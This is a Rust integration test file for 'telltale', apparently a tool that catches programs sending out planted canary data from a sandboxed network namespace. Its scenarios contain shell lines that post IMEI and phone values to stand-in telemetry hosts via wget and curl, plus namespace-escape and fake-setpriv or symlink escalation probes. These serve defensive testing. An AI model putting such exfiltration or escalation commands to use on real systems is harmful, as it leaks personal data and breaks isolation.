//! `kind: netns` end to end through `telltale run`: host programs in a fresh network namespace
//! whose only network is the vnet. Busybox clients upload planted canaries; a real program
//! (Chromium, headless, on about:blank) phones home on its own; a program that never gets
//! ready fails the run; without root nothing starts. After every run no namespace, TAP or
//! process of the run is left.
//!
//! Needs root, `ip` (iproute2), `nsenter` (util-linux) and busybox; the Chromium test needs
//! `chromium`, the encrypted-upload test `gpg` (gnupg) and `curl` (not busybox). `.ci/run` has all of them; elsewhere each test says why it is skipped.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Mutex;

use common::runs::*;

/// The tests compare the host's namespaces and interfaces before and after: one at a time.
static SERIAL: Mutex<()> = Mutex::new(());

fn unsupported(extra: &[&str]) -> Option<String> {
    if !telltale::driver::is_root() {
        return Some("needs root (network namespaces, TAP devices); `.ci/run` runs as root".into());
    }
    for tool in ["ip", "nsenter", "busybox"].iter().chain(extra) {
        if !on_path(tool) {
            return Some(format!(
                "needs `{tool}` (Debian: iproute2, util-linux, busybox-static, chromium); `.ci/run` installs it"
            ));
        }
    }
    None
}

/// What a run could leave behind on the host: namespaces, `tt*` interfaces, processes whose
/// command line carries `marker`.
#[derive(Debug, PartialEq, Eq)]
struct HostState {
    namespaces: BTreeSet<String>,
    interfaces: BTreeSet<String>,
    processes: Vec<u32>,
}

fn host_state(marker: &str) -> HostState {
    let ns = Command::new("ip").args(["netns", "list"]).output().unwrap();
    let namespaces = String::from_utf8_lossy(&ns.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().next().map(str::to_string))
        .collect();
    let interfaces = std::fs::read_dir("/sys/class/net")
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("tt"))
        .collect();
    let mut processes = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmd).contains(marker) {
            processes.push(pid);
        }
    }
    HostState {
        namespaces,
        interfaces,
        processes,
    }
}

/// Runs `telltale run SCENARIO --out OUT` and checks that it left nothing behind.
fn run_clean(scenario: &Path, out: &Path, marker: &str) -> Output {
    let before = host_state(marker);
    assert!(before.processes.is_empty(), "{before:?}");
    let o = Command::new(bin())
        .args([
            "run",
            scenario.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let after = host_state(marker);
    assert_eq!(after, before, "the run left something behind\n{}", text(&o));
    o
}

fn busybox_clients_in_a_namespace_are_caught_uploading_planted_canaries() {
    if skip(unsupported(&[])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("busybox");
    let marker = format!("tt-netns-agent-{}", std::process::id());
    let scenario = dir.join("agent.yaml");
    std::fs::write(
        &scenario,
        format!(
            r#"name: netns-agent
target:
  kind: netns
  command: [busybox, sh, -c, 'echo "agent: ready"; while [ ! -f imei ]; do sleep 0.2; done; busybox wget -q -O- --post-data "imei=$(cat imei)&phone=$(busybox base64 phone)" http://telemetry.vendor.example/v1/collect; echo; echo "agent: sent"; sleep 600', {marker}]
  boot_timeout: 20s
identity:
  seed: 7
steps:
  - wait_for: "agent: ready"
  - phase: consent_declined
  - plant: {{path: phone, content: "{{{{phone}}}}"}}
  - plant: {{path: imei, content: "{{{{imei}}}}"}}
  - wait_for: "agent: sent"
    timeout: 20s
  - shell: busybox nslookup tracker.vendor.example
    expect_output: "198\\.1[89]\\."
policy:
  forbid:
    - canaries: all
      phases: [consent_declined]
"#
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let r = report(&out.join("netns-agent"));
    assert_eq!(r["verdict"], "fail");
    let up = uploads(&r);
    for (canary, enc) in [("imei", "raw"), ("phone", "base64")] {
        assert!(
            up.iter().any(|u| u.0 == canary
                && u.1 == enc
                && u.2 == "telemetry.vendor.example"
                && u.3 == "POST /v1/collect"
                && u.4 == "consent_declined"),
            "{canary} {enc}: {up:#?}"
        );
    }
    assert!(r["steps"]
        .as_array()
        .unwrap()
        .iter()
        .all(|s| s["outcome"] == "ok"));
    let events = r["vnet"]["events"].as_array().unwrap();
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "dns" && e["name"] == "tracker.vendor.example"),
        "the shell step's lookup went to telltale: {events:#?}"
    );
    // The run waited for what the program printed, not for its command line (which names
    // the same text): the upload happened before the wait ended.
    let sent = r["steps"].as_array().unwrap()[4]["end_ns"]
        .as_u64()
        .unwrap();
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "http" && e["ts"].as_u64().unwrap() <= sent),
        "{events:#?}"
    );
    let console = std::fs::read_to_string(out.join("netns-agent/console.log")).unwrap();
    assert!(
        console.contains("agent: ready") && console.contains("agent: sent"),
        "{console}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

fn chromium_phones_home_on_its_own_from_about_blank() {
    if skip(unsupported(&["chromium"])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("chromium");
    let marker = format!("tt-netns-chromium-{}", std::process::id());
    let scenario = dir.join("chromium.yaml");
    // No flags that quiet Chromium's own traffic: what it does on its own is the point.
    std::fs::write(
        &scenario,
        format!(
            r#"name: netns-chromium
target:
  kind: netns
  command: [chromium, --headless, --no-sandbox, --disable-gpu, --no-first-run, --user-data-dir=profile, --class={marker}, about:blank]
identity:
  values: {{email: alice.canary@example.invalid}}
steps:
  - idle: 25s
"#
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    // Chromium trusts only its NSS database, not SSL_CERT_FILE: it refuses the run's CA on every TLS connection
    // the vnet ends, and what it would have sent there is unread — INCONCLUSIVE (exit 4), never PASS.
    assert_eq!(o.status.code(), Some(4), "{}", text(&o));
    let r = report(&out.join("netns-chromium"));
    let refused: Vec<&str> = r["analysis"]["unread"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|u| u["reason"] == "tls_refused")
        .filter_map(|u| u["destination"].as_str())
        .collect();
    assert!(
        refused.iter().any(|d| d.ends_with(".google.com")
            || d.ends_with(".googleapis.com")
            || d.ends_with(".gvt1.com")),
        "no refusal of the run's CA by Chromium: {refused:?}\n{}",
        text(&o)
    );
    let names: BTreeSet<String> = r["vnet"]["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"] == "dns" || e["event"] == "tls")
        .filter_map(|e| e["name"].as_str().or(e["sni"].as_str()).map(str::to_string))
        .collect();
    assert!(
        names.iter().any(|n| n.ends_with(".google.com")
            || n.ends_with(".googleapis.com")
            || n.ends_with(".gvt1.com")),
        "Chromium looked up no Google host on its own: {names:?}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

fn a_program_that_never_gets_ready_fails_the_run_and_leaves_nothing() {
    if skip(unsupported(&[])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("never");
    let marker = format!("tt-netns-never-{}", std::process::id());
    let scenario = dir.join("never.yaml");
    // The program starts a child of its own (in the background) that would outlive a plain kill.
    std::fs::write(
        &scenario,
        format!(
            "name: never\ntarget:\n  kind: netns\n  command: [busybox, sh, -c, 'busybox sleep 600 & echo starting; busybox sleep 600', {marker}]\n  boot_timeout: 3s\nidentity: {{seed: 1}}\nsteps:\n  - wait_for: never printed\n"
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    let all = text(&o);
    assert_eq!(o.status.code(), Some(3), "{all}");
    assert!(
        all.contains("timed out after 3s") && all.contains("starting"),
        "{all}"
    );
    let r = report(&out.join("never"));
    assert_eq!(r["verdict"], "error");
    let _ = std::fs::remove_dir_all(&dir);
}

fn without_root_nothing_starts_and_the_message_says_why() {
    if skip(unsupported(&["setpriv"])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = PathBuf::from(format!("/tmp/tt-noroot-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let marker = format!("tt-netns-noroot-{}", std::process::id());
    std::fs::write(
        dir.join("s.yaml"),
        format!("name: noroot\ntarget:\n  kind: netns\n  command: [busybox, sleep, '600', {marker}]\nidentity: {{seed: 1}}\nsteps:\n  - idle: 1s\n"),
    )
    .unwrap();
    Command::new("chmod")
        .args(["-R", "a+rwX", dir.to_str().unwrap()])
        .status()
        .unwrap();
    let before = host_state(&marker);
    let o = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            bin(),
            "run",
        ])
        .arg(dir.join("s.yaml"))
        .arg("--out")
        .arg(dir.join("out"))
        .output()
        .unwrap();
    let all = text(&o);
    assert_eq!(o.status.code(), Some(3), "{all}");
    assert!(all.contains("needs root"), "{all}");
    assert!(all.contains("nothing was started"), "{all}");
    assert_eq!(host_state(&marker), before);
    assert!(
        !dir.join("out/noroot/capture.pcap").exists(),
        "the network was started"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The program and `shell` steps run as `nobody` without capabilities: `id -u` is not 0, `nsenter`
/// into the host's network namespace fails, a low port still binds inside the namespace, and the
/// planted file is the program's. With `root: true` and `--allow-host=root` it keeps root.
fn the_program_runs_unprivileged_and_cannot_leave_its_namespace() {
    if skip(unsupported(&["setpriv"])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("unprivileged");
    let marker = format!("tt-netns-unpriv-{}", std::process::id());
    let program = "echo \"uid=$(id -u) groups=$(id -G)\"; if nsenter --net=/proc/1/ns/net true; then echo escape=yes; else echo escape=no; fi; if ip link set lo down; then echo routes=yes; else echo routes=no; fi; busybox nc -l -p 80 </dev/null >/dev/null & sleep 0.5; if kill -0 $!; then echo lowport=yes; else echo lowport=no; fi; while [ ! -f key ]; do sleep 0.2; done; echo more >> key && echo planted=mine; echo agent: done; sleep 600";
    let body = |root: &str| {
        format!(
            "name: unpriv\ntarget:\n  kind: netns\n  command: [busybox, sh, -c, '{program}', {marker}]\n  boot_timeout: 20s\n{root}identity:\n  seed: 3\nsteps:\n  - plant: {{path: key, content: \"x\"}}\n  - wait_for: \"agent: done\"\n    timeout: 20s\n  - shell: id -u\n    expect_output: \"^{uid}\"\n",
            uid = if root.is_empty() { "65534" } else { "0" }
        )
    };
    let scenario = dir.join("unpriv.yaml");
    std::fs::write(&scenario, body("")).unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    let console = std::fs::read_to_string(out.join("unpriv/console.log")).unwrap_or_default();
    assert_eq!(o.status.code(), Some(0), "{}\n{console}", text(&o));
    for want in [
        "uid=65534 groups=65534\n",
        "escape=no",
        "routes=no",
        "lowport=yes",
        "planted=mine",
    ] {
        assert!(console.contains(want), "{want} not in:\n{console}");
    }

    // Keeping root is opt-in, and then it is root.
    std::fs::write(&scenario, body("  root: true\n")).unwrap();
    let o = Command::new(bin())
        .args([
            "run",
            scenario.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("--allow-host=root"), "{}", text(&o));
    let before = host_state(&marker);
    let o = Command::new(bin())
        .args([
            "run",
            scenario.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--allow-host=root",
        ])
        .output()
        .unwrap();
    assert_eq!(host_state(&marker), before);
    let console = std::fs::read_to_string(out.join("unpriv/console.log")).unwrap_or_default();
    assert_eq!(o.status.code(), Some(0), "{}\n{console}", text(&o));
    assert!(console.contains("uid=0 "), "{console}");
    assert!(console.contains("escape=yes"), "{console}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A real packaged program encrypts the device's report before uploading it: `gpg --symmetric` (binary OpenPGP:
/// a symmetric-key session-key packet, then encrypted data), posted by `curl` over plain HTTP during the judged
/// phase. No canary can be seen in it; the body is recognised as an encrypted payload, an unread span, so the
/// forbid rule over that phase is INCONCLUSIVE (exit 4), never PASS.
fn a_gpg_encrypted_upload_over_plain_http_is_inconclusive_not_pass() {
    let needs = || -> Option<String> {
        if !telltale::driver::is_root() {
            return Some(
                "needs root (network namespaces, TAP devices); `.ci/run` runs as root".into(),
            );
        }
        for tool in ["ip", "nsenter", "gpg", "curl", "sh"] {
            if !on_path(tool) {
                return Some(format!(
                    "needs `{tool}` (Debian: iproute2, util-linux, gnupg, curl); `.ci/run` installs it"
                ));
            }
        }
        None
    };
    if skip(needs()) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("gpg");
    let marker = format!("tt-netns-gpg-{}", std::process::id());
    let scenario = dir.join("gpg.yaml");
    // gpg without an agent (`--no-autostart`: nothing is left running); it still writes the message and exits 2
    // for the agent it could not reach, hence the `test -s`.
    std::fs::write(
        &scenario,
        format!(
            r#"name: netns-gpg
target:
  kind: netns
  command: [sh, -c, 'echo "agent: ready"; while [ ! -f imei ]; do sleep 0.2; done; mkdir -m 700 -p gh; printf "imei=%s\nphone=%s\n" "$(cat imei)" "$(cat phone)" > report.txt; gpg --batch --yes --quiet --no-autostart --homedir gh --pinentry-mode loopback --passphrase vendor-secret --symmetric -o report.gpg report.txt 2>/dev/null; test -s report.gpg && curl -s --noproxy "*" -H "Content-Type: application/octet-stream" --data-binary @report.gpg http://telemetry.vendor.example/v1/report; echo; echo "agent: sent"; sleep 600', {marker}]
  boot_timeout: 20s
identity:
  seed: 7
steps:
  - wait_for: "agent: ready"
  - phase: consent_declined
  - plant: {{path: phone, content: "{{{{phone}}}}"}}
  - plant: {{path: imei, content: "{{{{imei}}}}"}}
  - wait_for: "agent: sent"
    timeout: 20s
policy:
  forbid:
    - canaries: all
      phases: [consent_declined]
"#
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    let all = text(&o);
    assert_eq!(o.status.code(), Some(4), "{all}");
    assert!(all.contains("INCONCLUSIVE"), "{all}");
    let r = report(&out.join("netns-gpg"));
    assert_eq!(r["verdict"], "inconclusive", "{all}");
    assert!(
        uploads(&r).is_empty(),
        "nothing readable carries a canary: {:#?}",
        uploads(&r)
    );
    let unread = r["analysis"]["unread"].as_array().unwrap();
    let span = unread
        .iter()
        .find(|u| u["reason"] == "encrypted_payload")
        .unwrap_or_else(|| panic!("no encrypted_payload span: {unread:#?}"));
    assert_eq!(span["direction"], "up");
    assert_eq!(span["destination"], "telemetry.vendor.example");
    assert_eq!(span["phase"], "consent_declined");
    assert!(span["bytes"].as_u64().unwrap() >= 60, "{span}");
    let warnings = r["analysis"]["warnings"].to_string();
    assert!(warnings.contains("encrypted payload (PGP"), "{warnings}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// What an unprivileged program controls cannot reach root: the scenario's `env` (a `PATH` through the
/// program's own folder, where it put a fake `setpriv`) applies to the program only, not to the `ip netns
/// exec … setpriv` that telltale runs as root for each step; and a `plant` onto a link the program made to a
/// host file writes as the program's user, so the host file is neither overwritten nor given away.
fn the_scenario_s_env_and_plant_cannot_reach_root() {
    if skip(unsupported(&["setpriv"])) {
        return;
    }
    use std::os::unix::fs::MetadataExt as _;
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("env-plant");
    let marker = format!("tt-netns-envplant-{}", std::process::id());
    let flag = std::env::temp_dir().join(format!("{marker}-ran-as"));
    let target = std::env::temp_dir().join(format!("{marker}-host-file"));
    let _ = std::fs::remove_file(&flag);
    std::fs::write(&target, "orig").unwrap();
    let program = format!(
        "mkdir -p bin; printf \"#!/bin/sh\\nid -u > {flag}\\nexec /usr/bin/setpriv \\\"\\$@\\\"\\n\" > bin/setpriv; chmod +x bin/setpriv; ln -s {target} key2; echo agent: ready; sleep 600",
        flag = flag.display(),
        target = target.display()
    );
    let scenario = dir.join("envplant.yaml");
    std::fs::write(
        &scenario,
        format!(
            "name: envplant\ntarget:\n  kind: netns\n  command: [busybox, sh, -c, '{program}', {marker}]\n  env:\n    PATH: \"bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n  boot_timeout: 20s\nidentity:\n  seed: 3\nsteps:\n  - wait_for: \"agent: ready\"\n    timeout: 20s\n  - shell: ls bin\n    expect_output: setpriv\n  - plant: {{path: key2, content: \"pwned\"}}\n"
        ),
    )
    .unwrap();
    let out = dir.join("out");
    let o = run_clean(&scenario, &out, &marker);
    let console = std::fs::read_to_string(out.join("envplant/console.log")).unwrap_or_default();
    assert!(
        !flag.exists(),
        "the program's setpriv ran as uid {}: {}\n{console}",
        std::fs::read_to_string(&flag).unwrap_or_default(),
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "orig",
        "{}",
        text(&o)
    );
    assert_eq!(std::fs::metadata(&target).unwrap().uid(), 0);
    assert_ne!(
        o.status.code(),
        Some(0),
        "the plant onto a link to a host file failed"
    );
    assert!(text(&o).contains("key2"), "{}", text(&o));
    let _ = std::fs::remove_file(&target);
    let _ = std::fs::remove_file(&flag);
    let _ = std::fs::remove_dir_all(&dir);
}

/// A `host:` step, once allowed, cannot leave a process behind: what it starts in the background (here a
/// `sleep` whose duration is the marker) is killed with it when the step ends.
fn what_a_host_step_starts_ends_with_the_step() {
    if skip(unsupported(&[])) {
        return;
    }
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = workdir("host-group");
    let marker = format!("7{}.5", std::process::id());
    let scenario = dir.join("grp.yaml");
    std::fs::write(
        &scenario,
        format!("name: grp\ntarget:\n  kind: netns\n  command: [busybox, sleep, '30']\nidentity:\n  seed: 3\nsteps:\n  - host: \"sleep {marker} >/dev/null 2>&1 & echo started\"\n"),
    )
    .unwrap();
    let before = host_state(&marker);
    let o = Command::new(bin())
        .args(["run", "--allow-host=commands", "--out"])
        .arg(dir.join("out"))
        .arg(&scenario)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(
        host_state(&marker),
        before,
        "the host step's sleep was left running"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

tests!(
    a_gpg_encrypted_upload_over_plain_http_is_inconclusive_not_pass,
    busybox_clients_in_a_namespace_are_caught_uploading_planted_canaries,
    chromium_phones_home_on_its_own_from_about_blank,
    a_program_that_never_gets_ready_fails_the_run_and_leaves_nothing,
    without_root_nothing_starts_and_the_message_says_why,
    the_program_runs_unprivileged_and_cannot_leave_its_namespace,
    the_scenario_s_env_and_plant_cannot_reach_root,
    what_a_host_step_starts_ends_with_the_step,
);
